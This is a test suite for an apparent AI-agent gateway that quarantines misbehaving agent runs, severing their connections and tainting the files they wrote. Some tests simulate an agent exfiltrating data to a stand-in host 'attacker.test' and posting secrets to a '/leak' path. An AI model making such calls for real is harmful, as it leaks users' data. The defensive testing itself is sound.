"""Quarantine through the whole gateway: severed at once, in doubt where it must be, kept over a restart, lifted."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import json
import os
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from gateway.cli import main
from gateway.core.server import ForwardSettings, UnknownHosts
from tests.gateway.harness import MANIFEST, Child, Serving, serving
from tests.lacking import lacking
from tests.origin import Answer, Feed, Hang, Origin

FILES = """
  files:
    upstream: http://127.0.0.1:PORT
    domain: saas
    operations:
      put:
        match: "PUT /files/{name}"
        tier: reversible
        artifacts: {writes: ["'file:' + params.name"]}
      get:
        match: "GET /files/{name}"
        tier: read
        artifacts: {reads: ["'file:' + params.name"]}
      list:
        match: "GET /files"
        tier: read
        artifacts: {reads: ["response.json.names.map(n, 'file:' + n)"]}
      queue:
        match: "POST /messages"
        tier: reversible
        artifacts: {writes: ["'message:' + response.json.id"]}
  scanner: {upstream: "http://127.0.0.1:PORT", domain: saas}
gates:
  scan: {verify: {tool: scanner, request: "GET /scan/${params.artifact}", expect: response.json.clean == true, clears: true}}
  other: {verify: {tool: scanner, request: "GET /scan/x", expect: "true"}}
"""
WORLD = MANIFEST + FILES


async def quarantine(gateway: Serving, **body: Any) -> Any:
    told = {"principal": "ann", "reason": "it obeys a stranger", **body}
    answer = await gateway.operator.send("POST", "/api/v1/quarantine", told)
    assert answer.status in (200, 201), answer.body
    return answer.json


async def commands(gateway: Serving, *arguments: str) -> str:
    arguments = (*arguments, "--control", gateway.gateway.control)
    result = await asyncio.to_thread(CliRunner().invoke, main, arguments)
    assert result.exit_code == 0, result.output
    return result.stdout


async def wait_for(condition: Callable[[], object]) -> None:
    async with asyncio.timeout(10):
        while not condition():
            await asyncio.sleep(0.005)


async def test_no_call_leaves_after_severing_and_the_incident_tells_how_fast(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        origin.on("POST /holds", Answer(201, b'{"id": "h1"}'))
        agent = gateway.agent
        assert (await agent.send("POST", "/pay/holds", {"n": 1}, run="bad")).status == 201
        told = await quarantine(gateway, trajectory="bad", since=1)
        assert told["state"] == "in force"
        assert all(told["stages"][name]["problem"] is None for name in ("suspend", "revoke", "sever", "taint"))
        assert told["stages"]["sever"]["ms"] < 1000  # how fast it is, loadtests/containment.py measures
        before = len(origin.requests)
        for method, path in (
            ("POST", "/pay/holds"),
            ("GET", "/plain/x"),
            ("POST", "/pay/payouts"),
            ("GET", "/files/files/a"),
        ):
            refused = await agent.send(method, path, {"n": 2} if method == "POST" else None, run="bad")
            assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
            assert refused["connection"] == "close"
        assert len(origin.requests) == before
        assert (await agent.send("POST", "/pay/holds", {"n": 1}, run="good")).status == 201
        run = (await gateway.operator.send("GET", "/api/v1/trajectories/bad")).json
        assert (run["state"], run["incident"]) == ("frozen", "QUARANTINED")
        incident = (await gateway.operator.send("GET", f"/api/v1/incidents/{run['incidents'][0]['id']}")).json
        assert incident["quarantine"]["stages"]["sever"]["ms"] == told["stages"]["sever"]["ms"]


async def test_a_write_that_is_cut_in_flight_is_in_doubt_and_not_failed(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        origin.on("POST /holds", Hang(applies=True))
        flying = asyncio.create_task(gateway.agent.send("POST", "/pay/holds", {"n": 1}, run="bad"))
        await wait_for(lambda: origin.requests)
        await quarantine(gateway, trajectory="bad")
        answer = await flying
        assert (answer.status, answer.code, answer.json["dispatched"]) == (423, "ERR_QUARANTINED", "maybe")
        page = (await gateway.operator.send("GET", "/metrics")).body.decode().splitlines()
        for line in (
            'gateway_quarantines_total{trigger="operator"} 1.0', "gateway_quarantines_in_force 1.0",
            "gateway_severed_total 1.0", 'gateway_quarantine_stage_seconds_count{stage="sever"} 1.0',
        ):  # fmt: skip
            assert line in page
        await asyncio.wait_for(origin.requests[0].gone.wait(), 5)
        run = (await gateway.operator.send("GET", "/api/v1/trajectories/bad")).json
        assert [step["state"] for step in run["steps"]] == ["in_doubt"]
        assert len(origin.requests) == 1


async def test_a_read_and_a_stream_are_broken_off(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        feed = Feed()
        origin.on("GET /slow", Hang())
        origin.on("GET /stream", Answer(200, feed, framing="chunked"))
        flying = asyncio.create_task(gateway.agent.send("GET", "/plain/slow", run="bad"))
        reader, writer = await gateway.agent.open()
        writer.write(gateway.agent.head("GET", "/plain/stream", [("Seawall-Trajectory", "bad")]))
        feed.send(b"first")
        assert (await reader.readuntil(b"first\r\n")).startswith(b"HTTP/1.1 200")
        await wait_for(lambda: len(origin.requests) == 2)
        await quarantine(gateway, trajectory="bad")
        answer = await flying
        assert (answer.status, answer.code) == (423, "ERR_QUARANTINED")
        with contextlib.suppress(ConnectionResetError):
            assert await asyncio.wait_for(reader.read(), 5) == b""  # no last chunk: it is seen to be cut
        writer.close()
        for request in origin.requests:
            await asyncio.wait_for(request.gone.wait(), 5)


async def test_the_agent_of_a_run_that_nobody_named_is_kept_out(tmp_path: Path) -> None:
    """It could only go on in the next such run."""
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        origin.on("POST /holds", Answer(201, b'{"id": "h1"}'))
        headers = [("Seawall-Agent", "mallory")]
        first = await gateway.agent.send("POST", "/pay/holds", {"n": 1}, headers=headers)
        await quarantine(gateway, trajectory=first["seawall-trajectory"])
        for path, run in (("/pay/holds", None), ("/plain/x", None), ("/pay/holds", "another")):
            refused = await gateway.agent.send("POST", path, {"n": 2}, headers=headers, run=run)
            assert refused.code == "ERR_QUARANTINED"
        assert (
            await gateway.agent.send("POST", "/pay/holds", {"n": 1}, headers=[("Seawall-Agent", "bob")])
        ).status == 201


async def test_what_it_made_is_kept_from_others_until_somebody_has_looked(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        agent = gateway.agent
        origin.on("PUT /files/a", Answer(204))
        origin.on("PUT /files/b", Answer(204))
        origin.on("PUT /files/c", Answer(204))
        origin.on("POST /messages", Answer(201, b'{"id": "m1"}', [(b"Content-Type", b"application/json")]))
        origin.on("GET /files", Answer(200, b'{"names": ["a", "c"]}', [(b"Content-Type", b"application/json")]))
        for name in ("a", "b", "c"):
            origin.on(f"GET /files/{name}", Answer(200, b"text"))
            assert (
                await agent.send("PUT", f"/files/files/{name}", b"text", run="bad" if name != "c" else "good")
            ).status == 204
        assert (await agent.send("GET", "/files/files/b", run="peer")).status == 200
        assert (await agent.send("POST", "/files/messages", {"text": "do it"}, run="peer")).status == 201
        told = await quarantine(gateway, trajectory="bad", since=2)
        assert told["artifacts"] == {"tainted": ["file:b"], "suspect": ["message:m1"], "cleared": []}
        assert told["contaminated"] == ["peer"]
        assert (await agent.send("GET", "/files/files/a", run="good")).status == 200
        blocked = await agent.send("GET", "/files/files/b", run="good")
        assert (blocked.status, blocked.code, blocked.json["dispatched"]) == (423, "ERR_ARTIFACT_QUARANTINED", "no")
        assert blocked.json["artifacts"] == [{"artifact": "file:b", "taint": "tainted", "quarantines": [told["id"]]}]
        overwrite = await agent.send("PUT", "/files/files/b", b"clean", run="good")
        assert overwrite.code == "ERR_ARTIFACT_QUARANTINED"
        assert (await agent.send("GET", "/files/files", run="good")).status == 200
        origin.on("GET /files", Answer(200, b'{"names": ["a", "b"]}', [(b"Content-Type", b"application/json")]))
        listed = await agent.send("GET", "/files/files", run="good")
        assert (listed.code, listed.json["dispatched"]) == ("ERR_ARTIFACT_QUARANTINED", "yes")
        assert (await agent.send("PUT", "/files/files/c", b"more", run="peer")).status == 204  # now suspect, too
        table = await commands(gateway, "taint", "ls", "--json")
        assert {one["artifact"]: one["taint"] for one in json.loads(table)["artifacts"]} == {
            "file:b": "tainted", "message:m1": "suspect", "file:c": "suspect",
        }  # fmt: skip
        dot = await commands(gateway, "taint", "graph", "bad", "--dot")
        assert '"run peer" -> "message:m1" [label="files.queue #1"];' in dot
        assert '"file:b" [color=red, tooltip="tainted"];' in dot

        origin.on("GET /scan/file%3Ac", Answer(200, b'{"clean": false}', [(b"Content-Type", b"application/json")]))
        body = {"artifact": "file:c", "principal": "ann", "reason": "scanned", "verifier": "scan"}
        refused = await gateway.operator.send("POST", "/api/v1/artifacts/clear", body)
        assert (refused.status, refused.code) == (423, "ERR_ARTIFACT_QUARANTINED")
        undeclared = await gateway.operator.send("POST", "/api/v1/artifacts/clear", {**body, "verifier": "other"})
        assert "no verifier of that name may clear" in undeclared.json["detail"]
        origin.on("GET /scan/file%3Ac", Answer(200, b'{"clean": true}', [(b"Content-Type", b"application/json")]))
        assert (await gateway.operator.send("POST", "/api/v1/artifacts/clear", body)).json["cleared_by"] == [
            "verifier scan"
        ]
        assert (await agent.send("GET", "/files/files/c", run="good")).status == 200
        assert "cleared" in await commands(gateway, "taint", "clear", "file:b", "--reason", "read it", "--by", "ann")
        assert (await agent.send("GET", "/files/files/b", run="good")).status == 200


async def test_an_agent_cannot_clear_what_it_made(tmp_path: Path) -> None:
    """The verbs are the operators' alone: none is served where agents call."""
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        for path in ("/seawall/v1/artifacts/clear", "/seawall/v1/quarantine", "/api/v1/artifacts/clear"):
            assert (await gateway.agent.send("POST", path, {"artifact": "file:b"})).status in (404, 422)


async def test_lifting_lets_people_release_the_run(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        origin.on("PUT /files/a", Answer(204))
        origin.on("GET /files/a", Answer(200, b"text"))
        await gateway.agent.send("PUT", "/files/files/a", b"text", run="bad")
        told = json.loads(
            await commands(gateway, "quarantine", "add", "bad", "--reason", "odd", "--by", "ann", "--json")
        )
        release = {"principal": "ann", "reason": "fine"}
        refused = await gateway.operator.send("POST", "/api/v1/trajectories/bad/release", release)
        assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
        assert told["id"] in await commands(gateway, "quarantine", "ls")
        lifted = await commands(gateway, "quarantine", "lift", told["id"], "--reason", "false alarm", "--by", "bob")
        assert "lifted" in lifted
        assert await commands(gateway, "quarantine", "ls") == ""
        assert (await gateway.agent.send("GET", "/files/files/a", run="good")).status == 200
        assert (await gateway.agent.send("GET", "/files/files/a", run="bad")).code == "ERR_QUARANTINED"
        assert (await gateway.operator.send("POST", "/api/v1/trajectories/bad/release", release)).status == 200
        assert (await gateway.agent.send("GET", "/files/files/a", run="bad")).status == 200


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ({}, "name a run, or an agent"),
        ({"trajectory": "nobody"}, "No run is called 'nobody'"),
        ({"trajectory": "../x"}, "trajectory must be a name"),
        ({"agent": "a", "since": -1}, "since must be the number of a step"),
        ({"agent": "a", "trigger": "rule"}, "trigger must be one of"),
        ({"agent": "a", "run": "b"}, "'run' is not known"),
    ],
)
async def test_a_bad_order_changes_nothing(tmp_path: Path, body: dict[str, Any], said: str) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        told = {"principal": "ann", "reason": "x", **body}
        answer = await gateway.operator.send("POST", "/api/v1/quarantine", told)
        assert answer.status in (404, 422)
        assert said in answer.json["detail"]
        assert (await gateway.operator.send("GET", "/api/v1/quarantine")).json["quarantines"] == []


async def test_a_rule_quarantines_and_doing_so_again_changes_nothing(tmp_path: Path) -> None:
    rules = "rules: {exfiltration: {effect: quarantine, when: request.path.startsWith('/leak'), tools: [plain]}}\n"
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD + rules) as gateway:
        assert (await gateway.agent.send("GET", "/plain/fine", run="bad")).status == 200
        refused = await gateway.agent.send("POST", "/plain/leak", {"secret": 1}, run="bad")
        assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
        await gateway.agent.send("POST", "/plain/leak", {"secret": 1}, run="bad")
        assert (await gateway.agent.send("GET", "/plain/fine", run="bad")).code == "ERR_QUARANTINED"
        (told,) = (await gateway.operator.send("GET", "/api/v1/quarantine")).json["quarantines"]
        assert (told["trajectory"], told["by"], told["trigger"]) == ("bad", "rule exfiltration", "rule")
        again = await quarantine(gateway, trajectory="bad", since=told["since_step"])
        assert again["id"] == told["id"]
        assert [request.target for request in origin.requests] == [b"/fine"]


async def test_a_quarantine_survives_the_process(tmp_path: Path, make_child: Callable[..., Child]) -> None:
    async with Origin() as origin:
        origin.on("PUT /files/a", Answer(204))
        origin.on("GET /files/a", Answer(200, b"text"))
        child = make_child(tmp_path, origin.port, WORLD)
        agent = await child.start()
        await agent.send("PUT", "/files/files/a", b"text", run="bad")
        await agent.send("PUT", "/files/files/a", b"text", headers=[("Seawall-Agent", "mallory")])
        for body in ({"trajectory": "bad"}, {"agent": "mallory"}):
            told = {"principal": "ann", "reason": "odd", **body}
            assert (await child.operator.send("POST", "/api/v1/quarantine", told)).status == 201
        await child.kill()
        agent = await child.start()
        assert (await agent.send("GET", "/plain/x", run="bad")).code == "ERR_QUARANTINED"
        assert (await agent.send("GET", "/plain/x", headers=[("Seawall-Agent", "mallory")])).code == "ERR_QUARANTINED"
        assert (await agent.send("GET", "/files/files/a", run="good")).code == "ERR_ARTIFACT_QUARANTINED"
        runs = (await child.operator.send("GET", "/api/v1/trajectories")).json["trajectories"]
        assert {run["id"] for run in runs if run["state"] == "frozen"} >= {"bad"}
        assert not any(run["id"].startswith("~") for run in runs)
        await child.terminate()


async def test_the_tombstone_is_sealed(tmp_path: Path) -> None:
    """Taking it out of the journal by hand shows."""
    import sqlite3

    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        await gateway.agent.send("PUT", "/files/files/a", b"text", run="bad")
        await quarantine(gateway, trajectory="bad")
    data = tmp_path / "data"
    checked = CliRunner().invoke(main, ["journal", "verify", "--data", str(data)])
    assert checked.exit_code == 0, checked.output
    with contextlib.closing(sqlite3.connect(next(data.glob("*.db*")))) as connection, connection:
        connection.execute("DROP TRIGGER record_is_final")
        connection.execute("UPDATE record SET data = x'7b7d' WHERE kind = 'QuarantineSet'")
    assert CliRunner().invoke(main, ["journal", "verify", "--data", str(data)]).exit_code == 1


async def test_shadow_blocks_nothing_and_says_so(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, shadow=True) as gateway:
        origin.on("PUT /files/a", Answer(204))
        origin.on("GET /files/a", Answer(200, b"text"))
        await gateway.agent.send("PUT", "/files/files/a", b"text", run="bad")
        await quarantine(gateway, trajectory="bad")
        assert (await gateway.agent.send("GET", "/files/files/a", run="good")).status == 200
        (told,) = (await gateway.operator.send("GET", "/api/v1/rules")).json["decisions"]
        assert (told["rule"], told["effect"], told["operation"]) == ("(artifact)", "deny", "files.get")


async def test_calling_an_undeclared_host_quarantines_the_run(tmp_path: Path) -> None:
    """`forward.unknown_hosts: quarantine`: what a run has no business with betrays it."""
    forward = ForwardSettings(unknown_hosts=UnknownHosts.QUARANTINE)
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, forward=forward) as gateway:
        assert (await gateway.agent.send("GET", "/plain/x", run="bad")).status == 200
        refused = await gateway.agent.send("GET", "http://attacker.test/leak", run="bad")
        assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
        assert (await gateway.agent.send("GET", "/plain/x", run="bad")).code == "ERR_QUARANTINED"
        assert (await gateway.agent.send("GET", "/nothing/x", run="good")).code == "ERR_UNKNOWN_TOOL"
        tunnel = await gateway.agent.send("CONNECT", "attacker.test:443", headers=[("Seawall-Agent", "mallory")])
        assert tunnel.code == "ERR_QUARANTINED"
        for method, target in (("GET", "/plain/x"), ("CONNECT", "attacker.test:443")):
            answer = await gateway.agent.send(method, target, headers=[("Seawall-Agent", "mallory")])
            assert answer.code == "ERR_QUARANTINED"
        told = (await gateway.operator.send("GET", "/api/v1/quarantine")).json["quarantines"]
        assert [(one["trajectory"], one["agent"]) for one in told] == [("bad", None), (None, "mallory")]


async def test_the_tunnels_of_a_quarantined_agent_are_cut(tmp_path: Path) -> None:
    """Bytes in a blind tunnel are seen by nobody, so the whole of it goes."""
    outward = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outward, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outward.read()

    async def far_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        arrived.append(await reader.readexactly(len(hello)))
        with contextlib.suppress(ConnectionResetError):
            await reader.read()
        over.append(b"")
        writer.close()

    arrived: list[bytes] = []
    over: list[bytes] = []
    server = await asyncio.start_server(far_end, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    forward = ForwardSettings(tunnel=(f"localhost:{port}",))
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, forward=forward) as gateway:
        reader, writer = await gateway.agent.open()
        writer.write(f"CONNECT localhost:{port} HTTP/1.1\r\nHost: x\r\nSeawall-Agent: mallory\r\n\r\n".encode())
        assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
        writer.write(hello)
        await wait_for(lambda: arrived)
        told = await quarantine(gateway, agent="mallory")
        assert told["stages"]["sever"]["detail"] == "1 cut"
        with contextlib.suppress(ConnectionResetError):
            assert await asyncio.wait_for(reader.read(), 5) == b""
        writer.close()
        await wait_for(lambda: over)
        assert (await gateway.operator.send("GET", "/api/v1/status")).json["tunnels"] == 0
    server.close()


async def test_the_websockets_of_a_quarantined_run_are_cut(tmp_path: Path) -> None:
    key = "dGhlIHNhbXBsZSBub25jZQ=="  # RFC 6455 section 1.3
    over = asyncio.Event()

    async def far_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        sent = next(line for line in head.split(b"\r\n") if line.lower().startswith(b"sec-websocket-key:"))
        digest = hashlib.sha1(sent.partition(b":")[2].strip() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()
        writer.write(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: "
            + base64.b64encode(digest) + b"\r\n\r\n\x81\x02hi"
        )  # fmt: skip
        with contextlib.suppress(ConnectionResetError):
            await reader.read()
        over.set()
        writer.close()

    server = await asyncio.start_server(far_end, "127.0.0.1", 0)
    upstream = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    chat = f'  chat: {{upstream: "{upstream}", domain: saas, websocket: {{enabled: true}}}}'
    text = WORLD.replace("gates:", f"{chat}\ngates:")
    async with Origin() as origin, serving(tmp_path, origin.port, text) as gateway:
        reader, writer = await gateway.agent.open()
        fields = (
            f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        )
        writer.write(f"GET /chat/room HTTP/1.1\r\nHost: x\r\nSeawall-Trajectory: bad\r\n{fields}\r\n".encode())
        assert b" 101 " in await reader.readuntil(b"\r\n\r\n")
        assert await reader.readexactly(4) == b"\x81\x02hi"
        told = await quarantine(gateway, trajectory="bad")
        assert told["stages"]["sever"]["detail"] == "1 cut"
        await asyncio.wait_for(over.wait(), 5)
        with contextlib.suppress(ConnectionResetError):
            assert await asyncio.wait_for(reader.read(), 5) == b""
        writer.close()
    server.close()


async def test_mcp_messages_that_are_no_calls_are_refused_too(tmp_path: Path) -> None:
    """A quarantined agent lists nothing and reads no resource: these go beside the pipeline."""
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        hello = {
            "jsonrpc": "2.0", "id": 1, "method": "initialize",
            "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}},
        }  # fmt: skip
        headers = [("Accept", "application/json, text/event-stream"), ("Seawall-Agent", "mallory")]
        opened = await gateway.agent.send("POST", "/seawall/mcp", hello, headers=headers)
        assert "result" in opened.json
        headers += [("Mcp-Session-Id", opened["mcp-session-id"]), ("MCP-Protocol-Version", "2025-11-25")]
        await quarantine(gateway, agent="mallory")
        for method in ("tools/list", "resources/read", "prompts/list", "initialize"):
            message = {
                **hello,
                "method": method,
                "params": hello["params"] if method == "initialize" else {"uri": "x:y"},
            }
            answer = await gateway.agent.send("POST", "/seawall/mcp", message, headers=headers)
            assert answer.json["error"]["data"]["code"] == "ERR_QUARANTINED", (method, answer.body)
        ping = await gateway.agent.send(
            "POST", "/seawall/mcp", {**hello, "method": "ping", "params": {}}, headers=headers
        )
        assert ping.json["result"] == {}


async def test_the_stream_of_what_is_contained_is_no_run(tmp_path: Path) -> None:
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        await quarantine(gateway, agent="mallory")
        assert (await gateway.operator.send("GET", "/api/v1/trajectories/~containment")).status == 404
        assert (await gateway.agent.send("GET", "/seawall/v1/trajectories/~containment")).status == 404
        assert (await gateway.operator.send("GET", "/api/v1/trajectories")).json["trajectories"] == []


async def test_a_quarantined_task_launders_nothing_through_a_child(tmp_path: Path) -> None:
    """The child works on what its parent has made of it: what it writes is suspect, and no further child is opened."""
    tasks = "/seawall/v1/tasks"
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        agent = gateway.agent
        for packet in ({"task_id": "bad"}, {"task_id": "child", "parent_task_id": "bad"}, {"task_id": "other"}):
            assert (await agent.send("POST", tasks, packet)).status == 201
        await agent.send("PUT", "/files/files/a", {"n": 1}, run="child")
        await agent.send("PUT", "/files/files/b", {"n": 1}, run="other")
        told = await quarantine(gateway, trajectory="bad")
        refused = await agent.send("GET", "/files/files/a", run="other")
        assert (refused.code, refused.json["artifacts"][0]["taint"]) == ("ERR_ARTIFACT_QUARANTINED", "suspect")
        assert (await agent.send("GET", "/files/files/b", run="other")).status == 200
        late = await agent.send("POST", tasks, {"task_id": "late", "parent_task_id": "bad"})
        assert (late.status, late.code) == (423, "ERR_QUARANTINED")
        shown = (await gateway.operator.send("GET", f"/api/v1/quarantine/{told['id']}")).json
        assert shown["contaminated"] == shown["held_tasks"] == ["child"]
        assert "tasks that it holds: child" in await commands(gateway, "quarantine", "show", told["id"])


async def test_the_tasks_of_a_quarantined_run_are_severed_with_it(tmp_path: Path) -> None:
    """What they do is what it asked for: their calls are cut, and none leaves until people let them go."""
    tasks = "/seawall/v1/tasks"
    packets = ({"task_id": "bad"}, {"task_id": "early", "parent_task_id": "bad"})
    later = ({"task_id": "child", "parent_task_id": "bad"}, {"task_id": "grandchild", "parent_task_id": "child"})
    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
        agent, feed = gateway.agent, Feed()
        origin.on("POST /holds", Hang(applies=True))
        origin.on("GET /slow", Hang())
        origin.on("GET /stream", Answer(200, feed, framing="chunked"))
        for packet in packets:
            assert (await agent.send("POST", tasks, packet)).status == 201
        assert (await agent.send("PUT", "/files/files/a", {"n": 1}, run="bad")).status == 200
        for packet in later:
            assert (await agent.send("POST", tasks, packet)).status == 201
        write = asyncio.create_task(agent.send("POST", "/pay/holds", {"n": 1}, run="child"))
        read = asyncio.create_task(agent.send("GET", "/plain/slow", run="grandchild"))
        other = asyncio.create_task(agent.send("GET", "/plain/slow", run="early"))
        reader, writer = await agent.open()
        writer.write(agent.head("GET", "/plain/stream", [("Seawall-Trajectory", "child")]))
        feed.send(b"first")
        assert (await reader.readuntil(b"first\r\n")).startswith(b"HTTP/1.1 200")
        await wait_for(lambda: len(origin.requests) == 5)
        told = await quarantine(gateway, trajectory="bad", since=1)
        cut, broken = await write, await read
        assert (cut.status, cut.code, cut.json["dispatched"]) == (423, "ERR_QUARANTINED", "maybe")
        assert (broken.status, broken.code) == (423, "ERR_QUARANTINED")
        with contextlib.suppress(ConnectionResetError):
            assert await asyncio.wait_for(reader.read(), 5) == b""
        writer.close()
        assert told["held_tasks"] == ["child", "grandchild"]
        assert not other.done()
        other.cancel()
        before = len(origin.requests)
        for run in ("child", "grandchild"):
            for method, path in (("POST", "/pay/payouts"), ("GET", "/plain/x")):
                refused = await agent.send(method, path, {} if method == "POST" else None, run=run)
                assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
            shown = (await gateway.operator.send("GET", f"/api/v1/trajectories/{run}")).json
            assert (shown["state"], shown["incident"]) == ("frozen", "QUARANTINED")
        late = await agent.send("POST", tasks, {"task_id": "late", "parent_task_id": "grandchild"})
        assert (late.status, late.code) == (423, "ERR_QUARANTINED")
        assert len(origin.requests) == before
        assert (await agent.send("GET", "/plain/x", run="early")).status == 200
        told = {"principal": "ann", "reason": "looked at it"}
        release = "/api/v1/trajectories/grandchild/release"
        assert (await gateway.operator.send("POST", release, told)).status == 423
        await commands(gateway, "taint", "clear", "task:child", "--reason", "looked at it")
        assert (await gateway.operator.send("POST", release, told)).status == 200
        assert (await agent.send("GET", "/plain/x", run="grandchild")).status == 200


async def test_held_tasks_stay_held_over_a_restart(tmp_path: Path, make_child: Callable[..., Child]) -> None:
    async with Origin() as origin:
        process = make_child(tmp_path, origin.port, WORLD)
        agent = await process.start()
        for packet in ({"task_id": "bad"}, {"task_id": "child", "parent_task_id": "bad"}):
            assert (await agent.send("POST", "/seawall/v1/tasks", packet)).status == 201
        told = {"principal": "ann", "reason": "it obeys a stranger", "trajectory": "bad"}
        assert (await process.operator.send("POST", "/api/v1/quarantine", told)).status == 201
        await process.kill()
        agent = await process.start()
        for path in ("/plain/x", "/files/files/a"):
            refused = await agent.send("GET", path, run="child")
            assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
        assert origin.requests == []
        await process.terminate()


@contextlib.contextmanager
def a_cgroup(agent: str) -> Iterator[Path]:
    """A real cgroup v2 of that name, which has to be empty in the end."""
    mounts = [line.split() for line in Path("/proc/mounts").read_text().splitlines()]
    root = next((Path(where) for _, where, kind, *_ in mounts if kind == "cgroup2" and os.access(where, os.W_OK)), None)
    if root is None or os.geteuid() != 0:
        lacking("a cgroup v2 that this user may make groups in")
    group = root / f"seawall-test-{os.getpid()}" / agent
    group.mkdir(parents=True)
    try:
        yield group
    finally:
        (group / "cgroup.kill").write_text("1")
        while (group / "cgroup.procs").read_text():
            time.sleep(0.01)
        group.rmdir()
        group.parent.rmdir()


BUSY = """
import os, time
while True:
    os.write(1, b".")
    time.sleep(0.001)
"""


async def test_the_process_of_a_quarantined_agent_is_frozen_by_the_kernel(tmp_path: Path) -> None:
    """A real process in a real cgroup: it stands still from the quarantine on, and goes on when that is lifted."""
    with a_cgroup("mallory") as group:
        hook = f'suspend: {{cell: {{kind: cgroup, path: "{group.parent}/${{trajectory.agent}}/cgroup.freeze"}}}}\n'
        child = await asyncio.create_subprocess_exec(sys.executable, "-c", BUSY, stdout=asyncio.subprocess.PIPE)
        try:
            assert child.stdout is not None
            (group / "cgroup.procs").write_text(str(child.pid))
            await child.stdout.readexactly(10)
            async with Origin() as origin, serving(tmp_path, origin.port, WORLD + hook) as gateway:
                origin.on("POST /holds", Answer(201, b'{"id": "h1"}'))
                headers = [("Seawall-Agent", "mallory")]
                await gateway.agent.send("POST", "/pay/holds", {"n": 1}, run="bad", headers=headers)
                told = await quarantine(gateway, trajectory="bad")
                assert told["agent"] in (None, "mallory")
                assert told["stages"]["suspend"]["detail"] == "cell: frozen"
                assert told["stages"]["suspend"]["problem"] is None
                await wait_for(lambda: "frozen 1" in (group / "cgroup.events").read_text())
                ticks = cpu_ticks(child.pid)
                while await drained(child.stdout):
                    pass
                assert cpu_ticks(child.pid) == ticks
                await gateway.operator.send(
                    "POST", f"/api/v1/quarantine/{told['id']}/lift", {"principal": "ann", "reason": "false alarm"}
                )
                await asyncio.wait_for(child.stdout.readexactly(10), 5)
                assert "frozen 0" in (group / "cgroup.events").read_text()
        finally:
            child.kill()
            await child.wait()


def cpu_ticks(pid: int) -> tuple[str, ...]:
    """Return what a process has used of the processor."""
    return tuple(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[11:13])


async def drained(pipe: asyncio.StreamReader) -> bytes:
    """Return what is left in a pipe, until nothing comes for a tenth of a second."""
    try:
        return await asyncio.wait_for(pipe.read(1 << 16), 0.1)
    except TimeoutError:
        return b""
